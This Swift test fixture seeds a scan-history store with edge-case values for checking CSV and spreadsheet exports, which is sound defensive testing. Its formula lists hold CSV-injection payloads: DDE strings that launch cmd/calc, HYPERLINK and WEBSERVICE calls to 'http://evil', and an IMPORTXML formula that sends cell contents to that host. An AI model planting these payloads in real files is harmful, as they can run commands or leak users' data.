import Formats
import Foundation
import Symbols

@testable import History

/// Scans of all sorts, for exports and what reads them back.
enum ExportSamples {
    /// Texts that a spreadsheet must not take for formulas (OWASP, "CSV Injection").
    static let formulas = [
        "=1+1", "+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1",
        "=HYPERLINK(\"http://evil\",\"x\")",
        "\"=1", " =1", "'=1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"http://evil?\",A1),\"//a\")",
    ]

    /// More of them, and those of which a spreadsheet must not take a part for a field of its own.
    static let injections =
        formulas + [
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\n=1+1", "＋1", "－1",
            "＠SUM(1)", "−1", "=1+1\";=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil\")",
            "\u{FEFF}=1+1", "\u{200B}=1+1", ";=1+1", ",=1+1", "x;=1+1;y", "x,=1+1,y", "x\t=1+1\ty", "x\n=1+1\ny",
            "x\r\n=1+1\r\ny", "\",=1+1,\"", "\";=1+1;\"", "x;\"=1+1\";y", "%0A=1+1", "=1+1%0A",
        ]

    static let texts =
        formulas + [
            "plain", "4006381333931", "a,b;c\td", "line 1\nline 2\r\nline 3", "quotes \" and ' and | and \\ and `x`",
            "日本語 🙂 e\u{301}", "<script>alert(1)</script>&amp;", "_x000D_ and _x41_",
            "control \u{1} \u{1B}[31m \u{7F} \u{9B}",
            " blanks around ", "\u{202E}gnp.exe", "0012345678901234567890", "TRUE", "2026-11-21", "\u{FEFF}mark",
        ]

    /// Keeps them, with tags, notes, a session, quantities, and symbols of bytes alone.
    static func fill(_ store: HistoryStore) throws {
        var run = ScanRun()
        for (index, text) in texts.enumerated() {
            run.session = index % 3 == 0 ? "Aisle 4, left" : nil
            run.tags = index % 4 == 0 ? ["late", "tür"] : []
            run.fields = index % 5 == 0 ? ["shelf": "A, \"7\""] : [:]
            var scan = scan(
                text, at: 1_795_261_938.042 + Double(index), source: index % 2 == 0 ? "a, b.png" : "cam\u{10FEFF}")
            if index % 2 == 0 { scan.utcOffset = 7200 - index * 1800 }
            if index % 3 == 0 { scan.frame = .init(width: 1920, height: 1080) }
            let id = try store.keep(scan, in: run).entry.id
            if index % 3 == 1 { try store.change(.ids([id]), .setNote("=note, \(text)")) }
            if index % 3 == 2 { try store.change(.ids([id]), .setQuantity(index)) }
            if index % 7 == 0 { try store.change(.ids([id]), .setPinned(true)) }
            if index % 6 == 0 { try store.setPicture("/pictures/\(index), x.jpg", ofScans: [id]) }
        }
        for bytes: [UInt8] in [[0xF8, 0, 0xFF], [], Array(0...255)] { _ = try store.add(scan(bytes: bytes)) }
        run = ScanRun()
        run.repeats = .count
        for second in 0..<3 { _ = try store.keep(scan("again", at: 1_795_300_000 + Double(second)), in: run) }
        var part = scan("part of it", at: 1_795_300_100)
        part.symbol.content.part = SequencePart(index: 1, count: 3, id: "a b")
        _ = try store.add(part)
        var book = scan("9780201379624", at: 1_795_300_101)
        book.symbol.content.addOn = "51995"
        _ = try store.add(book)
        _ = try store.add(
            scan("BEGIN:VCARD\nVERSION:3.0\nN:Müller;Zoë\nFN:Zoë Müller\nTEL:+49 1\nEND:VCARD", at: 1_795_300_102))
        _ = try store.add(
            scan(
                "BEGIN:VEVENT\nSUMMARY:Fair\nDTSTART:20261201T090000Z\nDTEND:20261201T100000Z\nEND:VEVENT",
                at: 1_795_300_103))
        _ = try store.add(scan("nul\0inside", at: 1_795_300_104))
    }

    /// What an entry is but for its number here.
    static func facts(_ entry: HistoryEntry) -> [String] {
        var session = entry.session.map { $0.name } ?? "none"
        session += " \(entry.fields.sorted { $0.key < $1.key })"
        let scan = entry.scan
        return [
            "\(Timestamp(scan.time))", "\(scan.utcOffset ?? -1)", scan.source, "\(scan.symbol)", "\(scan.frame as Any)",
            "\(entry.identity)", entry.picture ?? "none", "\(entry.tally)", "\(entry.remarks)", session,
            entry.kind.rawValue, entry.summary,
        ]
    }
}
